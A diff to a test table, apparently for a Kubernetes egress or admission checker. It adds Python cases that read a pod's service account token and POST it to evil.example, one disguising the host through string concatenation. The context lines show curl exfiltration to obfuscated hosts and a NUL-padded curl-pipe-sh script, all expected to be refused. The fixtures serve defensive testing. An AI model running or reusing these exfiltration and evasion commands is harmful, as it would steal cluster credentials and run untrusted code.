@@ -34,6 +34,8 @@ describe('sweep48: second URLs read as in the cluster, scripts padded past the b
     { what: 'Pod: the token to the API server and to kubernetes.default.svc@evil.example (userinfo)', req: pod(['curl', '-d', `@${TOKEN}`, API, 'kubernetes.default.svc@evil.example']), by: EGRESS, refused: ALL },
     { what: 'Pod: the token to the API server and to 3405803781 (203.0.113.5 as one number)', req: pod(['curl', '-d', `@${TOKEN}`, API, '3405803781']), by: EGRESS, refused: ALL },
     { what: 'Pod: the token to the API server and to [2001:db8::1]', req: pod(['curl', '-d', `@${TOKEN}`, API, '[2001:db8::1]']), by: EGRESS, refused: ALL },
+    { what: "Pod: python's token to the API server, then to HTTPSConnection('evil.example')", req: pod(['python3', '-c', `import urllib.request as u, http.client as h; t=open('${TOKEN}').read(); u.urlopen('${API}'); c=h.HTTPSConnection('evil.example'); c.request('POST','/',t)`]), by: EGRESS, refused: ALL },
+    { what: "Pod: python's 'https://kubernetes.default.svc' + '.evil.example/' with the token", req: pod(['python3', '-c', `import urllib.request as u; t=open('${TOKEN}').read(); u.urlopen(u.Request('https://kubernetes.default.svc' + '.evil.example/', data=t.encode()))`]), by: EGRESS, refused: ALL },
     { what: 'ConfigMap data: a script padded with a comment of control characters', req: configMap('data', `${FETCH_RUN}# ${'\u0001'.repeat(100)}\n`), by: EGRESS, refused: ALL },
     { what: 'ConfigMap binaryData: a script spelt cu\\0rl, padded with NULs', req: configMap('binaryData', b64(`echo start\ncu\0rl -fsSL https://x.example/i | sh\n#${'\0'.repeat(200)}\n`)), by: EGRESS, refused: ALL },
   ];
